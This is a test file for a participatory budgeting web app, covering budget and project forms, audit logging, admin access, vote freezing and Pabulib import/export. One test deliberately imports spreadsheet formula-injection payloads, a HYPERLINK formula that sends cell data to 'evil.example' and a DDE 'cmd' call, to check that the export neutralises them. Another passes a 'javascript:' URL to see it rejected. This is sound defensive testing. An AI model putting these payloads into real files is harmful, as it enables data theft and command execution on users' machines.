import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestClient, type TestContext } from '../../../test/support/app.ts';
import { readPabulib, writePabulib } from '../../engines/budgeting/index.ts';
import { createBudgetFixture, type BudgetFixture } from './test-fixture.ts';

let ctx: TestContext;
let admin: TestClient;
let f: BudgetFixture;
beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.client().signInAs(ctx, await ctx.createUser({ role: 'admin' }));
  f = await createBudgetFixture(ctx.deps.db);
});
afterAll(async () => ctx.close());

const budgetsOf = (componentId: string) => ctx.deps.db.selectFrom('budget').selectAll().where('component_id', '=', componentId).execute();

describe('setting up budgets', () => {
  it('creates a neighbourhood budget, and re-renders the form with messages on bad input', async () => {
    const bad = await admin.post(`/admin/budgets/component/${f.componentId}`, { title_fr: 'Budget Sud', amount: '-5', currency: 'euros', neighbourhood_id: '' });
    expect(bad.status).toBe(400);
    const html = await bad.text();
    expect(html).toContain('Indiquez un montant entier positif.');
    expect(html).toContain('value="Budget Sud"');
    expect(await budgetsOf(f.componentId)).toHaveLength(1);

    const ok = await admin.post(`/admin/budgets/component/${f.componentId}`, { title_fr: 'Budget Sud', amount: '50000', currency: 'EUR', neighbourhood_id: f.hoods.south });
    expect(ok.status).toBe(303);
    const created = (await budgetsOf(f.componentId)).find((b) => b.title_fr === 'Budget Sud')!;
    expect(created.neighbourhood_id).toBe(f.hoods.south);
    expect(ok.headers.get('location')).toBe(`/admin/budgets/${created.id}`);
    const list = await (await ctx.client().get(`/processes/${f.processSlug}/c/${f.componentId}`)).text();
    expect(list).toContain('Budget Sud');
    expect(list).toContain(`/budgets/${created.id}/ballot`);
  });

  it('adds and edits projects, keeping typed values when something is wrong', async () => {
    const budgetId = (await budgetsOf(f.componentId)).find((b) => b.title_fr === 'Budget Sud')!.id;
    const bad = await admin.post(`/admin/budgets/${budgetId}/projects`, { title_fr: 'Fontaine', cost: 'beaucoup', proposal_url: 'javascript:alert(1)', neighbourhood_id: '' });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('value="Fontaine"');
    const ok = await admin.post(`/admin/budgets/${budgetId}/projects`, { title_fr: 'Fontaine', cost: '12000', category: 'eau', proposal_url: 'https://bellerive.example/proposals/42', neighbourhood_id: f.hoods.south });
    expect(ok.status).toBe(303);
    const project = await ctx.deps.db.selectFrom('budget_project').selectAll().where('budget_id', '=', budgetId).executeTakeFirstOrThrow();
    expect(project.ref).toBe('1');
    expect((await admin.post(`/admin/budgets/${budgetId}/projects/${project.id}`, { title_fr: 'Fontaine à boire', cost: '15000', neighbourhood_id: '' })).status).toBe(303);
    const page = await (await ctx.client().get(`/budgets/${budgetId}`)).text();
    expect(page).toContain('Fontaine à boire');
    expect(page).toContain('15');
    // The audit log says what the edit changed, field by field, in words.
    const audit = await (await admin.get('/admin/audit')).text();
    expect(audit).toContain('<li>titre (français)\u202f: Fontaine → Fontaine à boire</li>');
    expect(audit).toContain('<li>coût\u202f: 12000 → 15000</li>');
    expect(audit).toContain('<li>catégorie\u202f: eau → (vide)</li>');
    expect(audit).not.toContain('titre (anglais)');
  });

  it('hides the budgets of a draft process from everyone but admins, and speaks English on request', async () => {
    const draft = await createBudgetFixture(ctx.deps.db);
    await ctx.deps.db.updateTable('process').set({ published: 0 }).where('slug', '=', draft.processSlug).execute();
    expect((await ctx.client().get(`/budgets/${draft.budgetId}`)).status).toBe(404);
    expect((await ctx.client().get(`/api/v1/budgets/${draft.budgetId}`)).status).toBe(404);
    expect((await admin.get(`/budgets/${draft.budgetId}`)).status).toBe(200);
    const english = await (await ctx.client().get(`/budgets/${f.budgetId}?lang=en`)).text();
    expect(english).toContain('<html lang="en"');
    expect(english).toContain('Projects on the ballot (6)');
    expect(english).toContain('Project 1');
  });

  it('keeps admin pages for admins', async () => {
    const resident = await ctx.client().signInAs(ctx, await ctx.createUser());
    expect((await resident.get(`/admin/budgets/${f.budgetId}`)).status).toBe(403);
    expect((await resident.post(`/admin/budgets/component/${f.componentId}`, { title_fr: 'X', amount: '10', currency: 'EUR' })).status).toBe(403);
    expect((await ctx.client().get(`/admin/budgets/${f.budgetId}`)).status).toBe(401);
  });

  it('freezes projects once someone has voted', async () => {
    const voter = await ctx.client().signInAs(ctx, await ctx.createUser());
    expect((await voter.post(`/budgets/${f.budgetId}/ballot/cast`, { project: ['1'] })).status).toBe(303);
    const edit = await admin.post(`/admin/budgets/${f.budgetId}/projects/${f.projects['1']}`, { title_fr: 'Autre', cost: '1', neighbourhood_id: '' });
    expect(edit.status).toBe(400);
    expect(await edit.text()).toContain('ne peuvent plus changer');
    // An image or proposal links are refused too, and the refused file is not kept.
    const uploads = async () => Number((await ctx.deps.db.selectFrom('upload').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    const before = await uploads();
    const form = new FormData();
    for (const [k, v] of Object.entries({ title_fr: 'Projet 1', cost: '40000', new_image_1_alt_fr: 'Un plan' })) form.append(k, v);
    form.append('new_image_1', new File([Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64')], 'plan.png', { type: 'image/png' }));
    expect((await admin.postMultipart(`/admin/budgets/${f.budgetId}/projects/${f.projects['1']}`, form)).status).toBe(400);
    expect(await uploads()).toBe(before);
    // The ballot still waits in the pool for its batch: it is counted all the same.
    const refusal = await admin.post(`/admin/budgets/${f.budgetId}/delete`, { confirmed: 'yes' });
    expect(refusal.status).toBe(409);
    expect(await refusal.text()).toContain('1 bulletin de vote');
  });
});

describe('Pabulib import and export', () => {
  const upload = (client: TestClient, budgetId: string, text: string, withBallots: boolean) => {
    const form = new FormData();
    form.append('file', new File([text], 'budget.pb', { type: 'text/plain' }));
    if (withBallots) form.append('with_ballots', 'on');
    return client.postMultipart(`/admin/budgets/${budgetId}/import`, form);
  };

  it('imports projects and anonymous ballots into an empty budget, and exports them back', async () => {
    await admin.post(`/admin/budgets/component/${f.componentId}`, { title_fr: 'Import', amount: '1000', currency: 'EUR', neighbourhood_id: '' });
    const budgetId = (await budgetsOf(f.componentId)).find((b) => b.title_fr === 'Import')!.id;
    const hood = (await ctx.deps.db.selectFrom('neighbourhood').selectAll().where('id', '=', f.hoods.north).executeTakeFirstOrThrow()).name_fr;
    const text = writePabulib({
      budget: 1000,
      voteType: 'approval',
      projects: [
        { id: 'a', cost: 600, name: 'Square', category: 'nature', neighbourhood: hood },
        { id: 'b', cost: 500, name: 'Piste cyclable' },
      ],
      ballots: [['a'], ['a', 'b'], ['b']],
    });
    expect((await upload(admin, budgetId, 'META\nkey;value\nbudget;x\n', false)).status).toBe(400);
    const res = await upload(admin, budgetId, text, true);
    expect(res.status).toBe(303);
    const projects = await ctx.deps.db.selectFrom('budget_project').selectAll().where('budget_id', '=', budgetId).orderBy('ref').execute();
    expect(projects.map((p) => [p.ref, p.title_fr, Number(p.cost), p.neighbourhood_id])).toEqual([
      ['a', 'Square', 600, f.hoods.north],
      ['b', 'Piste cyclable', 500, null],
    ]);
    expect(await ctx.deps.db.selectFrom('budget_ballot').select('id').where('budget_id', '=', budgetId).execute()).toHaveLength(3);
    const again = await upload(admin, budgetId, text, false);
    expect(again.status).toBe(400);
    expect(await again.text()).toContain('importez dans un budget vide');

    const exported = await ctx.client().get(`/budgets/${budgetId}/projects.pb`);
    expect(exported.headers.get('content-disposition')).toContain('.pb');
    const body = await exported.text();
    expect(body).toContain('a;600;Square;nature');
    expect(body).toContain('num_votes;0');
  });

  it('neutralises titles a spreadsheet would run in the .pb download, keeping ids, costs and ballots exact', async () => {
    await admin.post(`/admin/budgets/component/${f.componentId}`, { title_fr: '=Formules', amount: '1000', currency: 'EUR', neighbourhood_id: '' });
    const budgetId = (await budgetsOf(f.componentId)).find((b) => b.title_fr === '=Formules')!.id;
    const text = writePabulib({
      budget: 1000,
      voteType: 'approval',
      projects: [
        { id: '7', cost: 600, name: '=HYPERLINK("http://evil.example/?"&A1,"Square")', category: '+cmd|\' /C calc\'!A0' },
        { id: '8', cost: 500, name: '-2+3 pistes' },
      ],
      ballots: [['7'], ['7', '8']],
    });
    expect((await upload(admin, budgetId, text, true)).status).toBe(303);
    const exported = await (await ctx.client().get(`/budgets/${budgetId}/projects.pb`)).text();
    expect(exported).toContain('7;600;"\'=HYPERLINK(""http://evil.example/?""&A1,""Square"")";\'+cmd|\' /C calc\'!A0');
    expect(exported).toContain("8;500;'-2+3 pistes");
    expect(exported).toContain("description;'=Formules");
    expect(readPabulib(exported).projects.map((p) => [p.id, p.cost])).toEqual([['7', 600], ['8', 500]]);
  });

  it('does not let anyone download ballots while voting is open', async () => {
    const res = await admin.get(`/admin/budgets/${f.budgetId}/ballots.pb`);
    expect(res.status).toBe(400);
    expect(await res.text()).toContain('Le vote est encore ouvert');
  });
});
